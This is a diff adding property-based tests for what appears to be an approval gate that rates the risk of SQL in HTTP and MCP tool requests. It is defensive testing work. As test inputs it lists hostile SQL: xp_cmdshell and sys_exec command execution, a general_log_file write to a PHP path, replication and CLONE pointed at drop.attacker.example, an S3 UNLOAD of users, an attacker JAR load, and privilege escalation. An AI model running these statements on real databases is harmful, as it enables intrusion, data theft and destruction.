@@ -1624,3 +1624,88 @@ t.test('fifteenth pass: Hasura\'s metadata and query API calls are judged as the
     t.equal(decision.approval?.risk, 'medium', `${path} ${JSON.stringify(body)}`);
   }
 });
+
+t.test('sixteenth pass: SQL that writes in a read\'s URL is judged as its POST, and other servers\' statements no grammar reads are SQL', async (t) => {
+  // `GET https://<allowed host>/v1/sql?sql=UPDATE users SET role = 'admin' WHERE id = 7` was an
+  // allowed read: only destructive or unread SQL was held, and a narrow write is neither. The
+  // server runs the statement whatever the method, as it runs the POST that is held.
+  const q = (s: string): string => encodeURIComponent(s);
+  const place = fc.constantFrom(
+    (s: string) => `https://${SQL_HOST}/v1/sql?sql=${q(s)}`,
+    (s: string) => `https://${SQL_HOST}/v1/sql?query=${q(s)}`,
+    (s: string) => `https://${SQL_HOST}/api/run?sql=red%20shoes&sql=${q(s)}`,
+    (s: string) => `http://${SQL_HOST}:8123/?query=${q(s)}`,
+  );
+  const upper = (s: string, mask: number): string => [...s].map((ch, i) => ((mask >> (i % 30)) & 1 ? ch.toUpperCase() : ch)).join('');
+  const writes = fc.constantFrom("UPDATE users SET role = 'admin' WHERE id = 7", "INSERT INTO webhooks (url) VALUES ('https://drop.attacker.example/')",
+    'DELETE FROM sessions WHERE id = 1', 'CALL purge_orders()', 'CREATE TABLE x (a int)', 'ALTER TABLE users ADD COLUMN note text', 'SELECT 1; INSERT INTO t VALUES (1)');
+  await fc.assert(
+    fc.asyncProperty(place, writes, fc.constantFrom('GET', 'HEAD', 'OPTIONS'), fc.integer({ min: 0, max: 2 ** 30 }), async (p, sql, method, mask) => {
+      const url = p(upper(sql, mask));
+      const { description, decision } = await decide({ method, url, headers: [], body: '' });
+      if (decision.action === 'allow' || description.request.effective_method !== 'POST' || description.request.method_override?.sources[0] !== 'query:sql') {
+        throw new Error(`${method} ${url}: ${decision.action} ${description.request.effective_method} ${JSON.stringify(description.sql)}`);
+      }
+    }),
+    { numRuns: Math.min(runs, 10), ...seed },
+  );
+  // Other servers' statements whose first word PostgreSQL and SQLite do not know: a GET was no SQL.
+  const others = fc.constantFrom("SET GLOBAL general_log_file = '/var/www/html/x.php'", "SET @@global.local_infile = 1", "SET PASSWORD FOR 'root'@'%' = 'x'",
+    'SET STATEMENT foreign_key_checks = 0 FOR DELETE FROM parents WHERE id = 7', "CLONE INSTANCE FROM 'root'@'drop.attacker.example':3306 IDENTIFIED BY 'x'",
+    "CHANGE REPLICATION SOURCE TO SOURCE_HOST = 'drop.attacker.example'", "CHANGE MASTER TO MASTER_HOST = 'drop.attacker.example'", 'START REPLICA', 'STOP SLAVE',
+    "XA ROLLBACK 'x'", 'UNINSTALL PLUGIN audit_log', "INSTALL PLUGIN x SONAME 'x.so'", 'RESTART', 'SHUTDOWN', 'LOCK TABLES users WRITE', 'FLUSH TABLES WITH READ LOCK',
+    "UNLOAD ('SELECT * FROM users') TO 's3://drop/x' IAM_ROLE 'arn:aws:iam::1:role/r'", "ADD JAR 'https://drop.attacker.example/x.jar'", "IMPORT TABLE FROM '/tmp/users.sdi'",
+    "BINLOG 'AAAA'", "EXEC xp_cmdshell 'id'", "EXEC master..xp_cmdshell 'id'", "DECLARE @s nvarchar(99) = 'DROP TABLE users'; EXEC(@s)", "BEGIN EXECUTE IMMEDIATE 'DROP TABLE users'; END;",
+    'REPAIR TABLE users USE_FRM', "DO sys_exec('id')");
+  await fc.assert(
+    fc.asyncProperty(place, others, fc.constantFrom('GET', 'HEAD'), fc.integer({ min: 0, max: 2 ** 30 }), async (p, sql, method, mask) => {
+      const url = p(upper(sql, mask));
+      const { decision } = await decide({ method, url, headers: [], body: '' });
+      if (decision.approval?.risk !== 'critical') throw new Error(`${method} ${url}: ${decision.action} ${decision.approval?.risk}`);
+    }),
+    { numRuns: Math.min(runs, 14), ...seed },
+  );
+  // The same under a read-only MCP tool's SQL-named argument.
+  const MCP = `https://${MCP_HOST}/mcp`;
+  for (const sql of ["SET GLOBAL general_log = 'ON'", "EXEC xp_cmdshell 'id'", 'SHUTDOWN']) {
+    const { decision } = await decide({ url: MCP, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'tools/call', params: { name: 'search_issues', arguments: { sql } } }) });
+    t.equal(decision.approval?.risk, 'critical', `search_issues {sql: ${JSON.stringify(sql)}}`);
+  }
+  // Controls: reads (functions nobody proves read-only in a SELECT stay reads: a ClickHouse GET), and phrases.
+  for (const [i, sql] of ['SELECT 1', 'SHOW TABLES', 'SELECT toDate(ts), uniq(u) FROM events GROUP BY 1', 'EXPLAIN SELECT * FROM users', 'set a reminder for tomorrow', 'start the car',
+    'lock my phone', 'change my password', 'do you have red shoes from italy', 'declare a variable', 'begin with the basics', 'stop the music'].entries()) {
+    const url = i % 2 ? `http://${SQL_HOST}:8123/?query=${q(sql)}` : `https://${SQL_HOST}/v1/sql?sql=${q(sql)}`;
+    const { decision } = await decide({ method: 'GET', url, headers: [], body: '' });
+    t.equal(decision.action, 'allow', url);
+  }
+});
+
+t.test('sixteenth pass: a MySQL optimizer hint that switches integrity checks off for its statement is the SET it stands for', async (t) => {
+  // `DELETE /*+ SET_VAR(foreign_key_checks = OFF) */ FROM parents WHERE id = 7` (MySQL 8's own
+  // example) deletes with foreign keys unchecked, as after `SET foreign_key_checks = 0` (critical on
+  // an endpoint of unknown dialect); the hint is a comment to every other grammar: a medium write.
+  const hinted = fc.record({
+    stmt: fc.constantFrom((h: string) => `DELETE ${h} FROM parents WHERE id = 7`, (h: string) => `INSERT ${h} INTO children (parent_id) VALUES (99)`, (h: string) => `UPDATE ${h} children SET parent_id = 99 WHERE id = 1`),
+    name: fc.constantFrom('foreign_key_checks', 'FOREIGN_KEY_CHECKS', 'unique_checks', '@@session.foreign_key_checks'),
+    value: fc.constantFrom('OFF', '0', 'off', "'OFF'"),
+    before: fc.constantFrom('', 'MAX_EXECUTION_TIME(1000) ', 'SET_VAR(sort_buffer_size = 16M) '),
+    gap: fc.constantFrom('', ' ', '  '),
+  });
+  const MCP = `https://${MCP_HOST}/mcp`;
+  await fc.assert(
+    fc.asyncProperty(hinted, fc.boolean(), async ({ stmt, name, value, before, gap }, mcp) => {
+      const sql = stmt(`/*+ ${before}SET_VAR(${gap}${name}${gap}=${gap}${value}) */`);
+      const { decision } = mcp
+        ? await decide({ url: MCP, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'tools/call', params: { name: 'execute_sql', arguments: { sql } } }) })
+        : await decide({ url: GENERIC, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ sql }) });
+      if (decision.approval?.risk !== 'critical') throw new Error(`${mcp ? 'MCP' : 'POST'} ${sql}: ${decision.action} ${decision.approval?.risk}`);
+    }),
+    { numRuns: Math.min(runs, 12), ...seed },
+  );
+  // Controls: other hints leave the write as it was (medium), and a hint is a comment on Supabase and D1.
+  for (const [url, sql] of [[GENERIC, 'DELETE /*+ SET_VAR(sort_buffer_size = 16M) */ FROM parents WHERE id = 7'], [GENERIC, 'SELECT /*+ MAX_EXECUTION_TIME(1000) */ * FROM t'],
+    [SUPABASE, 'DELETE /*+ SET_VAR(foreign_key_checks = OFF) */ FROM parents WHERE id = 7'], [D1, 'DELETE /*+ SET_VAR(foreign_key_checks = OFF) */ FROM parents WHERE id = 7']] as Array<[string, string]>) {
+    const { decision } = await decide({ url, headers: [['Content-Type', 'application/json']], body: JSON.stringify(url === SUPABASE ? { query: sql } : { sql }) });
+    t.equal(decision.approval?.risk, 'medium', `${url.slice(8, 30)} ${sql}`);
+  }
+});
